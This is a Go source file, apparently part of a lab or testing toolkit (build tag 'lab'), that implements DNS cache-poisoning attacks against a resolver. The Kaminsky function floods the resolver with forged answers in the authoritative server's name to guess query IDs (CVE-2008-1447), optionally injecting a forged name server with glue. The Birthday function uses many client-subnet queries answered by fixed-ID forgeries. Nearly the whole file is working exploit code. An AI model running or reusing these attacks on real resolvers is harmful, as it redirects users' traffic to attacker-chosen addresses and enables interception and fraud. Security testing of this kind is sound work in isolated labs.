//go:build lab

package inject

import (
	"cmp"
	"context"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"

	"github.com/miekg/dns"
)

// A KaminskyConfig says which resolver is attacked, and what it shall believe.
type KaminskyConfig struct {
	Resolver netip.Addr
	Port     uint16     // that the resolver's queries come from
	Server   netip.Addr // authoritative for the zone; the source of the forgeries

	// Name is asked for in each round. Without it, each round asks for another
	// random label below Zone: a round that is lost costs nothing.
	Name string
	Zone string
	// NS, if set, is forged as the zone's name server, with Address as its glue.
	NS      string
	Address netip.Addr // the answer; its family is that of the query too
	TTL     uint32     // seconds

	Rounds int // 0 is 3
	IDs    int // responses in each round; 0 is all 65,536
	Rate   int // packets per second at most; 0 is 100,000
}

// Kaminsky makes a resolver ask, and floods it with answers in the name of the
// authoritative server, to guess the ID of the query (CVE-2008-1447). It ends
// after all rounds or after a minute.
func Kaminsky(within Within, c KaminskyConfig) (*Injector, error) {
	return attack(within, c.Resolver, func(ctx context.Context, i *Injector, r *router, asks *dns.Conn) error {
		for range cmp.Or(c.Rounds, 3) {
			m := c.forgery()
			v, err := newVolley(m, 0)
			if err != nil {
				return err
			}
			v.servers, v.client, v.port = []netip.Addr{c.Server}, c.Resolver, c.Port
			v.count, v.rate = c.IDs, c.Rate
			q := new(dns.Msg).SetQuestion(m.Question[0].Name, m.Question[0].Qtype)
			if err := asks.WriteMsg(q); err != nil {
				return err
			}
			if err := v.fire(ctx, i, r); err != nil {
				return err
			}
		}
		return nil
	})
}

// forgery is the response of a round.
func (c KaminskyConfig) forgery() *dns.Msg {
	name := c.Name
	if name == "" {
		name = fmt.Sprintf("%06x.%s", rand.Uint32N(1<<24), c.Zone)
	}
	q := dns.Question{Name: dns.Fqdn(name), Qtype: typeOf(c.Address), Qclass: dns.ClassINET}
	all := []netip.Addr{c.Address}
	m := &dns.Msg{Question: []dns.Question{q}, Answer: addresses(q.Name, q.Qtype, all, c.TTL)}
	if c.NS != "" {
		ns := dns.Fqdn(c.NS)
		head := dns.RR_Header{Name: dns.Fqdn(c.Zone), Rrtype: dns.TypeNS, Class: dns.ClassINET, Ttl: c.TTL}
		m.Ns = []dns.RR{&dns.NS{Hdr: head, Ns: ns}}
		m.Extra = addresses(ns, q.Qtype, all, c.TTL)
	}
	return m
}

// A BirthdayConfig says which resolver is attacked, and what it shall believe.
type BirthdayConfig struct {
	Resolver netip.Addr
	Server   netip.Addr // authoritative for the name; the source of the forgeries
	Name     string
	Address  netip.Addr // the answer; its family is that of the query too
	TTL      uint32     // seconds

	Queries int    // 0 is 200
	ID      uint16 // of all forgeries
	Port    uint16 // the first port that is tried
	Ports   int    // how many are tried, in turn; 0 is one
	Count   int    // forgeries in all; 0 is 65,536
	Rate    int    // packets per second at most; 0 is 100,000
}

// Birthday makes a resolver ask the same question many times at once, each time
// for another client subnet (RFC 7871), and sends answers with one fixed ID: one
// of many queries is likelier met than one of one. It ends after Count packets or
// after a minute.
func Birthday(within Within, c BirthdayConfig) (*Injector, error) {
	qtype, all := typeOf(c.Address), []netip.Addr{c.Address}
	name := dns.Fqdn(c.Name)
	// Without a client subnet of its own the answer is for all (RFC 7871 §7.3).
	v, err := newVolley(&dns.Msg{
		Question: []dns.Question{{Name: name, Qtype: qtype, Qclass: dns.ClassINET}},
		Answer:   addresses(name, qtype, all, c.TTL),
	}, 0)
	if err != nil {
		return nil, err
	}
	v.servers, v.client, v.port, v.ports = []netip.Addr{c.Server}, c.Resolver, c.Port, c.Ports
	v.count, v.rate = c.Count, c.Rate
	v.id = func(int) uint16 { return c.ID }
	return attack(within, c.Resolver, func(ctx context.Context, i *Injector, r *router, asks *dns.Conn) error {
		for n := range cmp.Or(c.Queries, 200) {
			q := new(dns.Msg).SetQuestion(name, qtype).SetEdns0(1232, false)
			q.IsEdns0().Option = []dns.EDNS0{&dns.EDNS0_SUBNET{
				Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 24,
				Address: net.IPv4(198, 19, byte(n), 0).To4(), // RFC 2544: of nobody
			}}
			if err := asks.WriteMsg(q); err != nil {
				return err
			}
		}
		return v.fire(ctx, i, r)
	})
}

// attack runs f with a raw socket, and with one for queries to a resolver.
func attack(within Within, resolver netip.Addr, f func(context.Context, *Injector, *router, *dns.Conn) error) (*Injector, error) {
	r, err := openRouter(within, resolver)
	if err != nil {
		return nil, err
	}
	conn, err := dial(context.Background(), within, "udp", netip.AddrPortFrom(resolver, 53))
	if err != nil {
		r.close()
		return nil, err
	}
	run := func(ctx context.Context, i *Injector) error { return f(ctx, i, r, &dns.Conn{Conn: conn}) }
	return launch(longest, run, func() { conn.Close(); r.close() }), nil
}

// typeOf is the type of record that holds an address.
func typeOf(a netip.Addr) uint16 {
	if a.Is4() {
		return dns.TypeA
	}
	return dns.TypeAAAA
}
